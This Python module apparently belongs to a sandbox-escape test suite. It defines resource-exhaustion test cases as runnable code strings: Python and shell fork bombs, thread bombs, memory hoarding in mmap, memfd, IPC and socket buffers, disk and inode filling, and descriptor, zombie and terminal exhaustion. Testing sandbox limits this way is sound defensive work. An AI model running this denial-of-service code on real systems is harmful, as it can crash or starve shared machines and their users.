"""Taking more than one's share of processes, memory, disk and descriptors."""

from __future__ import annotations

from functools import partial

from coderemote_kernel.escape.attack import Attack, Category, Profile, Tier

__all__ = ["ATTACKS"]

_attack = partial(Attack, category=Category.RESOURCES, profile=Profile.SMALL)
# Without namespaces the jail has no file systems of its own, and so none of a limited size.
_OPEN_DISK = frozenset({Tier.NO_NAMESPACES})

ATTACKS = (
    _attack(
        id="resources-fork-bomb",
        title="fork without end",
        dirty=True,
        code="""
attempt(0.1)
def bomb():
    while True:
        with contextlib.suppress(OSError):
            os.fork()
fork(bomb)
time.sleep(1)
""",
    ),
    _attack(
        id="resources-fork-shell",
        title="the shell's fork bomb",
        dirty=True,
        code="""
attempt(0.1)
with contextlib.suppress(subprocess.TimeoutExpired):
    subprocess.run(["sh", "-c", "b() { b | b & }; b; sleep 1"], timeout=2, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""",
    ),
    _attack(
        id="resources-thread-bomb",
        title="start threads without end",
        dirty=True,
        code="""
attempt(0.1)
event = threading.Event()
count = 0
with contextlib.suppress(RuntimeError, MemoryError):
    while count < 2000:
        threading.Thread(target=event.wait, daemon=True).start()
        count += 1
if count > 300:
    got(f"{count} threads")
""",
    ),
    _attack(
        id="resources-memory-one",
        title="take memory in one process",
        dirty=True,
        code="""
attempt(0.1)
taken = 0
with contextlib.suppress(MemoryError):
    while taken < 400 << 20:
        keep.append(bytearray(b"x") * (8 << 20))
        taken += 8 << 20
if taken >= 400 << 20:
    got(f"{taken} bytes")
""",
    ),
    _attack(
        id="resources-memory-many",
        title="take memory in several processes, each below the limit",
        dirty=True,
        code="""
attempt(0.1)
def take():
    # A page at a time, so that a slow watcher has a chance, as a real one has.
    for _ in range(20):
        keep.append(os.urandom(5 << 20))
        time.sleep(0.05)
children = [fork(take) for _ in range(6)]
time.sleep(2.5)
alive = 0
for pid in children:
    with contextlib.suppress(ChildProcessError):
        alive += os.waitpid(pid, os.WNOHANG)[0] == 0
if alive == 6:
    got("600 MB in six processes")
""",
    ),
    _attack(
        id="resources-memory-shared",
        title="take memory in shared anonymous mappings, which no data limit counts",
        dirty=True,
        code="""
import mmap
attempt(0.1)
taken = 0
with contextlib.suppress(OSError, MemoryError):
    while taken < 400 << 20:
        view = mmap.mmap(-1, 8 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        for at in range(0, len(view), 4096):
            view[at] = 1
        keep.append(view)
        taken += 8 << 20
        time.sleep(0.02)
time.sleep(0.5)
if taken >= 400 << 20:
    got(f"{taken} bytes")
""",
    ),
    _attack(
        id="resources-memory-once",
        title="one allocation larger than the machine",
        code="""
attempt()
for size in (1 << 30, 1 << 36, 1 << 46):
    with contextlib.suppress(MemoryError, OverflowError):
        block = bytearray(size)
        block[:: 1 << 20] = b"x" * len(block[:: 1 << 20])
        got(f"{size} bytes")
""",
        dirty=True,
    ),
    _attack(
        id="resources-memfd",
        title="hide memory in unnamed files",
        code="""
attempt(0.1)
taken = 0
with contextlib.suppress(OSError, MemoryError):
    for number in range(50):
        fd = os.memfd_create(f"crm{number}")
        keep.append(fd)
        taken += os.write(fd, bytes(8 << 20))
if taken > 300 << 20:
    got(f"{taken} bytes")
""",
        dirty=True,
    ),
    _attack(
        id="resources-ipc",
        title="hide memory in System V segments, semaphores and message queues",
        code="""
attempt(0.1)
taken = 0
for number in range(50):
    ident = syscall("shmget", 0, 8 << 20, 0o1600)
    if ident < 0:
        break
    _libc.shmat.restype = ctypes.c_void_p
    ctypes.memset(_libc.shmat(ident, None, 0), 1, 8 << 20)
    taken += 8 << 20
for number in range(1000):
    queue = syscall("msgget", 0, 0o1600)
    if queue < 0 or syscall("msgsnd", queue, struct.pack("l", 1) + bytes(8000), 8000, 0o4000) < 0:
        break
    taken += 8000
for number in range(200):
    queue = syscall("mq_open", f"crm{number}".encode(), 0o102, 0o600, None)
    if queue < 0:
        break
    taken += 80000
if taken > 300 << 20 or syscall("semget", 0, 32000, 0o1600) >= 0:
    got(f"{taken} bytes of kernel memory")
""",
        dirty=True,
    ),
    _attack(
        id="resources-socket-buffers",
        title="hide memory in the buffers of sockets",
        code="""
attempt(0.1)
taken = 0
with contextlib.suppress(OSError, MemoryError):
    while taken < 300 << 20:
        pair = socket.socketpair()
        keep.append(pair)
        for sock in pair:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
            sock.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    taken += sock.send(bytes(1 << 20))
if taken >= 256 << 20:
    got(f"{taken} bytes in {len(keep)} pairs")
""",
        dirty=True,
    ),
    _attack(
        id="resources-pipe-buffers",
        title="hide memory in the buffers of pipes",
        code="""
import fcntl
attempt(0.1)
taken = 0
with contextlib.suppress(OSError, MemoryError):
    while taken < 300 << 20:
        reading, writing = os.pipe()
        keep.append((reading, writing))
        with contextlib.suppress(OSError):
            fcntl.fcntl(writing, 1031, 1 << 20)
        os.set_blocking(writing, False)
        with contextlib.suppress(BlockingIOError):
            while True:
                taken += os.write(writing, bytes(1 << 16))
if taken >= 256 << 20:
    got(f"{taken} bytes in {len(keep)} pipes")
""",
        dirty=True,
    ),
    _attack(
        id="resources-descriptors-in-flight",
        title="hide descriptors in messages between one's own sockets",
        code="""
import array
attempt(0.1)
count = 0
with contextlib.suppress(OSError, MemoryError):
    for _ in range(200):
        ours, theirs = socket.socketpair()
        fds = [os.open("/dev/null", os.O_RDONLY) for _ in range(50)]
        ours.setblocking(False)
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))])
        for fd in fds:
            os.close(fd)
        theirs.setblocking(False)
        keep.append((ours, theirs))
        count += 50
if count > 9000:
    got(f"{count} descriptors in flight")
""",
        dirty=True,
    ),
    _attack(
        id="resources-disk",
        title="fill the working directory, /tmp and /dev/shm",
        weak_in=_OPEN_DISK,
        code="""
attempt(0.1)
for place in (".", "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/run"):
    taken = 0
    with contextlib.suppress(OSError):
        for number in range(60):
            with open(os.path.join(place, f"fill{number}"), "wb", buffering=0) as file:
                while file.tell() < 7 << 20:
                    taken += file.write(bytes(1 << 20))
    if taken > 100 << 20:
        got(f"{taken} bytes in {place}")
    for number in range(60):
        with contextlib.suppress(OSError):
            os.unlink(os.path.join(place, f"fill{number}"))
""",
        dirty=True,
    ),
    _attack(
        id="resources-disk-hidden",
        title="fill the disk with files that have no name",
        weak_in=_OPEN_DISK,
        code="""
attempt(0.1)
taken = 0
with contextlib.suppress(OSError):
    for number in range(60):
        fd = os.open(".", os.O_TMPFILE | os.O_RDWR)
        keep.append(fd)
        for _ in range(7):
            taken += os.write(fd, bytes(1 << 20))
if taken > 100 << 20:
    got(f"{taken} bytes")
""",
        dirty=True,
    ),
    _attack(
        id="resources-inodes",
        title="use up inodes with empty files, links and folders",
        weak_in=_OPEN_DISK,
        code="""
attempt(0.1)
for place in (".", "/tmp"):
    folder = os.path.join(place, "many")
    count = 0
    with contextlib.suppress(OSError):
        os.makedirs(folder, exist_ok=True)
        for number in range(100_000):
            os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
            count += 1
    if count >= 90_000:
        got(f"{count} files in {place}")
""",
        dirty=True,
    ),
    _attack(
        id="resources-sparse",
        title="one file as large as a disk, sparse and allocated",
        code="""
attempt()
import signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
for place in (".", "/tmp", "/dev/shm"):
    path = f"{place}/sparse"
    with contextlib.suppress(OSError), open(path, "wb") as file:
        file.truncate(1 << 40)
        got(f"a file of {os.path.getsize(path)} bytes in {place}")
    with contextlib.suppress(OSError), open(path, "wb") as file:
        os.posix_fallocate(file.fileno(), 0, 1 << 30)
        got(f"a gigabyte allocated in {place}")
    with contextlib.suppress(OSError):
        os.unlink(path)
""",
        dirty=True,
    ),
    _attack(
        id="resources-deep-folders",
        title="folders within folders, thousands deep",
        code="""
attempt(0.1)
start = os.getcwd()
with contextlib.suppress(OSError):
    for _ in range(20_000):
        os.mkdir("d")
        os.chdir("d")
with contextlib.suppress(OSError):
    os.chdir(start)
""",
        dirty=True,
    ),
    _attack(
        id="resources-descriptors",
        title="open descriptors without end",
        code="""
attempt(0.1)
count = 0
with contextlib.suppress(OSError):
    while count < 5000:
        keep.append(os.open("/dev/null", os.O_RDONLY))
        count += 1
if count > 300:
    got(f"{count} descriptors")
""",
        dirty=True,
    ),
    _attack(
        id="resources-zombies",
        title="children that nobody reaps",
        code="""
attempt(0.1)
count = 0
with contextlib.suppress(OSError):
    while count < 1000:
        if os.fork() == 0:
            os._exit(0)
        count += 1
if count > 300:
    got(f"{count} zombies")
""",
        dirty=True,
    ),
    _attack(
        id="resources-terminals",
        title="use up the machine's terminals",
        code="""
import pty
attempt(0.1)
before = int(read("/proc/sys/kernel/pty/nr") or b"0")
with contextlib.suppress(OSError):
    while len(keep) < 3000:
        keep.append(pty.openpty())
if len(keep) > 500:
    got(f"{len(keep)} terminals")
""",
        dirty=True,
    ),
)
